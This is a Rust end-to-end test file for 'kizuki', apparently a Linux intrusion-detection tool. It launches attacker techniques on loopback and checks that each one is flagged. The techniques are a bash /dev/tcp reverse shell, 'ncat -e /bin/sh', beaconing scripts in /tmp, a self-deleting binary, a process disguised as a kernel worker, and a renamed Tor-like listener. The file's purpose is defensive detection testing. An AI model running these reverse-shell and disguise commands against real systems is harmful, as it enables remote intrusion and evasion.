//! End to end with real tools on loopback: what attackers actually run —
//! a shell script beaconing from /tmp, `ncat -e /bin/sh`, a bash
//! `/dev/tcp` reverse shell, a file deleted and put back while it runs, a
//! perl process calling itself `[kworker/1:2]`, a process that calls
//! `exec` after kizuki saw it, a Tor-like program under another name with
//! a client, a packet socket — each must be reported by
//! `kizuki watch --json` with the right kind and severity.
//!
//! All scenarios run together under one short `watch` (the machine has
//! two cores); each test checks its own case in the shared result.

// These tests drive real Linux processes, sockets and /proc.
#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::OnceLock;
use std::time::{Duration, Instant};

use serde_json::Value;

const WATCH_SECONDS: &str = "12";

/// What the shared run saw, and the PIDs of each scenario.
struct Run {
    snap: Value,
    script_pid: u32,
    script_path: PathBuf,
    script_sha: String,
    curl_script_pid: u32,
    ncat_pid: u32,
    reverse_pid: Option<u32>,
    replaced_pid: u32,
    disguised_pid: u32,
    exec_pid: u32,
    exec_target: PathBuf,
    exec_sha: String,
    tor_pid: u32,
    tor_client_pid: u32,
    raw_pid: Option<u32>,
}

/// Kills and reaps every child, also when setup fails.
struct Children(Vec<Child>);

impl Drop for Children {
    fn drop(&mut self) {
        for c in &mut self.0 {
            let _ = c.kill();
            let _ = c.wait();
        }
    }
}

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

/// A loopback server in this process that accepts and holds connections.
fn holding_server() -> u16 {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for mut c in l.incoming().flatten() {
            std::thread::spawn(move || {
                let mut sink = [0u8; 4096];
                while matches!(c.read(&mut sink), Ok(n) if n > 0) {}
            });
        }
    });
    port
}

fn spawn(cmd: &mut Command) -> Child {
    cmd.stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap()
}

fn connect_retry(port: u16) -> TcpStream {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        match TcpStream::connect(("127.0.0.1", port)) {
            Ok(s) => return s,
            Err(e) => {
                assert!(Instant::now() < deadline, "cannot connect to {port}: {e}");
                std::thread::sleep(Duration::from_millis(50));
            }
        }
    }
}

fn sha256_hex(path: &Path) -> String {
    let out = Command::new("sha256sum").arg(path).output().unwrap();
    String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .next()
        .unwrap()
        .to_string()
}

fn kizuki(data: &Path, args: &[&str]) -> Value {
    // As root, event capture is in force: each contact is dated when it
    // began, so the rhythm checks read the programs' own timing.
    let mut child = Command::new(env!("CARGO_BIN_EXE_kizuki"))
        .arg("--data-dir")
        .arg(data)
        .args(["--lang", "en"])
        .args(args)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut out = child.stdout.take().unwrap();
    let reader = std::thread::spawn(move || {
        let mut s = String::new();
        out.read_to_string(&mut s).map(|_| s)
    });
    let deadline = Instant::now() + Duration::from_secs(120);
    let status = loop {
        if let Some(st) = child.try_wait().unwrap() {
            break st;
        }
        assert!(Instant::now() < deadline, "kizuki {args:?} did not finish");
        std::thread::sleep(Duration::from_millis(100));
    };
    let mut err = String::new();
    if let Some(mut e) = child.stderr.take() {
        let _ = e.read_to_string(&mut err);
    }
    assert!(status.success(), "kizuki {args:?} failed: {status}: {err}");
    serde_json::from_str(&reader.join().unwrap().unwrap()).unwrap()
}

fn run() -> &'static Run {
    static RUN: OnceLock<Run> = OnceLock::new();
    RUN.get_or_init(setup)
}

fn setup() -> Run {
    let python = std::fs::canonicalize("/usr/bin/python3").expect("needs /usr/bin/python3");
    let dropped = tempfile::Builder::new()
        .prefix("kizuki-detect-")
        .tempdir_in("/tmp")
        .unwrap();
    let dir = dropped.path().to_path_buf();
    let data = tempfile::tempdir().unwrap();
    let mut ch = Children(Vec::new());
    let mut held: Vec<TcpStream> = Vec::new();

    // A: a shell script in /tmp contacting a server every 2 s.
    let beacon_port = holding_server();
    let script_path = dir.join("update.sh");
    std::fs::write(
        &script_path,
        format!(
            "while true; do exec 3<>/dev/tcp/127.0.0.1/{beacon_port}; sleep 1.2; \
             exec 3<&-; sleep 0.8; done\n"
        ),
    )
    .unwrap();
    ch.0.push(spawn(Command::new("/bin/bash").arg(&script_path)));
    let script_pid = ch.0.last().unwrap().id();

    // A2: the same with curl: the contacts are curl's, the program that
    // keeps calling is the script.
    let curl_script = dir.join("poll.sh");
    std::fs::write(
        &curl_script,
        format!(
            "while true; do curl -s -m 1.2 http://127.0.0.1:{beacon_port}/ >/dev/null; \
             sleep 0.8; done\n"
        ),
    )
    .unwrap();
    ch.0.push(spawn(Command::new("/bin/bash").arg(&curl_script)));
    let curl_script_pid = ch.0.last().unwrap().id();

    // B: ncat serving a shell; a client connected and holding.
    let ncat_port = free_port();
    ch.0.push(spawn(Command::new("ncat").args([
        "-l",
        "127.0.0.1",
        &ncat_port.to_string(),
        "-e",
        "/bin/sh",
    ])));
    let ncat_pid = ch.0.last().unwrap().id();
    held.push(connect_retry(ncat_port));

    // C: bash's /dev/tcp reverse shell to a listener in this process.
    let (rev_tx, rev_rx) = std::sync::mpsc::channel::<TcpStream>();
    let rev = TcpListener::bind("127.0.0.1:0").unwrap();
    let rev_port = rev.local_addr().unwrap().port();
    std::thread::spawn(move || {
        if let Ok((s, _)) = rev.accept() {
            let _ = rev_tx.send(s);
        }
    });
    ch.0.push(spawn(Command::new("/bin/bash").arg("-c").arg(format!(
        "exec bash -i >& /dev/tcp/127.0.0.1/{rev_port} 0>&1"
    ))));
    let reverse_pid = ch.0.last().map(|c| c.id());
    if let Ok(s) = rev_rx.recv_timeout(Duration::from_secs(10)) {
        held.push(s);
    }

    // D: a dropped program deletes its file and puts an innocent one back.
    let tool = dir.join("tool");
    std::fs::copy(&python, &tool).unwrap();
    ch.0.push(spawn(Command::new(&tool).arg("-c").arg(
        "import os, time\n\
         p = os.readlink('/proc/self/exe')\n\
         os.unlink(p)\n\
         open(p, 'w').write('#!/bin/sh\\necho hello\\n')\n\
         time.sleep(120)\n",
    )));
    let replaced_pid = ch.0.last().unwrap().id();

    // E: perl calling itself a kernel worker.
    ch.0.push(spawn(
        Command::new("/usr/bin/perl").args(["-e", "$0 = '[kworker/1:2]'; sleep 120"]),
    ));
    let disguised_pid = ch.0.last().unwrap().id();

    // G: Tor under another name (its data files in its working folder)
    // with a loopback SOCKS-like listener, and a client of it.
    let tordir = dir.join("tordata");
    std::fs::create_dir(&tordir).unwrap();
    std::fs::write(
        tordir.join("cached-consensus"),
        "network-status-version 3\n",
    )
    .unwrap();
    let helper = dir.join("helper");
    std::fs::copy(&python, &helper).unwrap();
    let socks_port = free_port();
    ch.0.push(spawn(
        Command::new(&helper)
            .current_dir(&tordir)
            .arg("-c")
            .arg(format!(
                "import socket, time\n\
                 s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n\
                 s.bind(('127.0.0.1', {socks_port})); s.listen(5)\n\
                 held = []\n\
                 while True:\n    held.append(s.accept()[0])\n"
            )),
    ));
    let tor_pid = ch.0.last().unwrap().id();
    drop(connect_retry(socks_port));
    ch.0.push(spawn(Command::new("/bin/bash").arg("-c").arg(format!(
        "exec 3<>/dev/tcp/127.0.0.1/{socks_port}; exec sleep 120"
    ))));
    let tor_client_pid = ch.0.last().unwrap().id();

    // H: a packet socket (needs root).
    let raw_pid = if is_root() {
        let sniff = dir.join("sniff");
        std::fs::copy(&python, &sniff).unwrap();
        ch.0.push(spawn(Command::new(&sniff).arg("-c").arg(
            "import socket, time\n\
             s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)\n\
             time.sleep(120)\n",
        )));
        Some(ch.0.last().unwrap().id())
    } else {
        None
    };

    // A first scan records the baseline and fills the hash cache.
    kizuki(data.path(), &["scan", "--json"]);

    // F: a process kizuki sees as bash, which then calls exec.
    let exec_target = dir.join("sleeper");
    std::fs::copy("/usr/bin/sleep", &exec_target).unwrap();
    let exec_sha = sha256_hex(&exec_target);
    ch.0.push(spawn(
        Command::new("/bin/bash")
            .arg("-c")
            .arg(format!("sleep 3; exec {} 120", exec_target.display())),
    ));
    let exec_pid = ch.0.last().unwrap().id();

    let snap = kizuki(
        data.path(),
        &["watch", "--seconds", WATCH_SECONDS, "--json"],
    );
    // Keep the client sockets until the watch ended.
    for s in &mut held {
        let _ = s.write_all(b"");
    }
    drop(held);
    drop(ch);
    Run {
        snap,
        script_pid,
        script_sha: sha256_hex(&script_path),
        script_path,
        curl_script_pid,
        ncat_pid,
        reverse_pid,
        replaced_pid,
        disguised_pid,
        exec_pid,
        exec_target,
        exec_sha,
        tor_pid,
        tor_client_pid,
        raw_pid,
    }
}

fn is_root() -> bool {
    std::fs::read_to_string("/proc/self/status")
        .map(|s| {
            s.lines()
                .any(|l| l.starts_with("Uid:") && l.split_whitespace().nth(2) == Some("0"))
        })
        .unwrap_or(false)
}

fn program_of(snap: &Value, pid: u32) -> &Value {
    snap["programs"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| {
            p["pids"]
                .as_array()
                .unwrap()
                .iter()
                .any(|x| x.as_u64() == Some(u64::from(pid)))
        })
        .unwrap_or_else(|| panic!("pid {pid} is listed"))
}

/// The children of `pid` are listed as processes of some program.
fn child_program_of(snap: &Value, parent: u32) -> Option<&Value> {
    snap["programs"].as_array().unwrap().iter().find(|p| {
        p["processes"].as_array().is_some_and(|ps| {
            ps.iter()
                .any(|x| x["parent"].as_u64() == Some(u64::from(parent)))
        })
    })
}

fn finding<'a>(p: &'a Value, kind: &str) -> Option<&'a Value> {
    p["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["kind"] == kind)
}

fn severity(p: &Value, kind: &str) -> Option<String> {
    finding(p, kind).map(|f| f["severity"].as_str().unwrap().to_string())
}

/// A rhythm needs samples: on a machine so busy that kizuki took fewer
/// than 8 in the window, the beaconing checks say so instead of failing.
fn enough_samples(r: &Run) -> bool {
    // A rhythm is judged on sample times: a machine so busy that samples
    // were skipped or delayed makes any timer look irregular.
    let n = r.snap["generation"].as_u64().unwrap_or(0);
    let want = WATCH_SECONDS.parse::<u64>().unwrap_or(12) - 1;
    if n < want {
        eprintln!("machine too busy: {n} samples in {WATCH_SECONDS} s; beaconing not checked");
    }
    n >= want
}

fn show(p: &Value) -> String {
    serde_json::to_string_pretty(p).unwrap()
}

#[test]
fn a_script_from_tmp_is_its_own_program_and_beacons() {
    let r = run();
    let p = program_of(&r.snap, r.script_pid);
    assert_eq!(
        p["script"].as_str(),
        Some(r.script_path.to_str().unwrap()),
        "{}",
        show(p)
    );
    assert!(p["exe"].as_str().unwrap().ends_with("/bash"), "{}", show(p));
    assert_eq!(
        p["sha256"].as_str(),
        Some(r.script_sha.as_str()),
        "{}",
        show(p)
    );
    assert_eq!(
        severity(p, "runs-from-temp").as_deref(),
        Some("medium"),
        "{}",
        show(p)
    );
    if !enough_samples(r) {
        return;
    }
    let b = finding(p, "beaconing").unwrap_or_else(|| panic!("beaconing: {}", show(p)));
    assert!(b["evidence"]["score"].as_f64().is_some(), "{}", show(p));
}

#[test]
fn a_script_calling_curl_in_a_loop_beacons() {
    let r = run();
    let p = program_of(&r.snap, r.curl_script_pid);
    assert!(
        p["script"].as_str().unwrap().ends_with("/poll.sh"),
        "{}",
        show(p)
    );
    assert_eq!(
        severity(p, "runs-from-temp").as_deref(),
        Some("medium"),
        "{}",
        show(p)
    );
    if enough_samples(r) {
        assert!(finding(p, "beaconing").is_some(), "{}", show(p));
    }
}

#[test]
fn ncat_serving_a_shell_is_a_remote_shell() {
    let r = run();
    let sh = child_program_of(&r.snap, r.ncat_pid)
        .unwrap_or_else(|| panic!("ncat's shell is listed: {}", r.snap));
    assert_eq!(
        severity(sh, "remote-shell").as_deref(),
        Some("high"),
        "{}",
        show(sh)
    );
}

#[test]
fn a_bash_dev_tcp_reverse_shell_is_high() {
    let r = run();
    let p = program_of(&r.snap, r.reverse_pid.unwrap());
    assert_eq!(
        severity(p, "remote-shell").as_deref(),
        Some("high"),
        "{}",
        show(p)
    );
}

#[test]
fn a_file_put_back_in_tmp_is_not_an_update() {
    let r = run();
    let p = program_of(&r.snap, r.replaced_pid);
    assert_eq!(p["exe_deleted"], true, "{}", show(p));
    assert_eq!(
        severity(p, "exe-deleted").as_deref(),
        Some("high"),
        "{}",
        show(p)
    );
}

#[test]
fn perl_calling_itself_a_kernel_worker_is_disguised() {
    let r = run();
    let p = program_of(&r.snap, r.disguised_pid);
    assert_eq!(
        severity(p, "disguised").as_deref(),
        Some("medium"),
        "{}",
        show(p)
    );
}

#[test]
fn exec_after_start_carries_the_new_images_hash() {
    let r = run();
    let p = program_of(&r.snap, r.exec_pid);
    assert_eq!(
        p["exe"].as_str(),
        Some(r.exec_target.to_str().unwrap()),
        "{}",
        show(p)
    );
    assert_eq!(
        p["sha256"].as_str(),
        Some(r.exec_sha.as_str()),
        "{}",
        show(p)
    );
    assert!(
        finding(p, "exe-changed").is_none(),
        "no false change: {}",
        show(p)
    );
}

#[test]
fn tor_under_another_name_and_its_client() {
    let r = run();
    let tor = program_of(&r.snap, r.tor_pid);
    assert_eq!(
        severity(tor, "tor").as_deref(),
        Some("medium"),
        "{}",
        show(tor)
    );
    let client = program_of(&r.snap, r.tor_client_pid);
    assert_eq!(
        severity(client, "tor").as_deref(),
        Some("high"),
        "{}",
        show(client)
    );
}

#[test]
fn a_packet_socket_outside_network_tools_is_reported() {
    let r = run();
    let Some(pid) = r.raw_pid else {
        assert!(
            std::env::var("KIZUKI_REQUIRE_PRIVILEGED").as_deref() != Ok("1"),
            "raw sockets need root"
        );
        eprintln!("skipping: raw sockets need root");
        return;
    };
    let p = program_of(&r.snap, pid);
    assert_eq!(
        severity(p, "raw-socket").as_deref(),
        Some("medium"),
        "{}",
        show(p)
    );
}

#[test]
fn kizuki_itself_is_never_reported() {
    let r = run();
    for p in r.snap["programs"].as_array().unwrap() {
        if p["exe"].as_str() == Some(env!("CARGO_BIN_EXE_kizuki")) {
            assert!(p["findings"].as_array().unwrap().is_empty(), "{}", show(p));
        }
    }
}

#[test]
fn marking_a_script_process_by_pid_marks_the_script() {
    let dir = tempfile::tempdir().unwrap();
    let data = tempfile::tempdir().unwrap();
    let script = dir.path().join("job.sh");
    std::fs::write(&script, "while true; do sleep 1; done\n").unwrap();
    let ch = Children(vec![spawn(Command::new("/bin/bash").arg(&script))]);
    let pid = ch.0[0].id();
    std::thread::sleep(Duration::from_millis(300));
    let out = Command::new(env!("CARGO_BIN_EXE_kizuki"))
        .arg("--data-dir")
        .arg(data.path())
        .args(["--lang", "en", "mark", &pid.to_string(), "trusted"])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let snap = kizuki(data.path(), &["scan", "--json"]);
    let p = program_of(&snap, pid);
    assert_eq!(
        p["script"].as_str(),
        Some(script.to_str().unwrap()),
        "{}",
        show(p)
    );
    assert_eq!(p["mark"], "trusted", "{}", show(p));
    drop(ch);
}
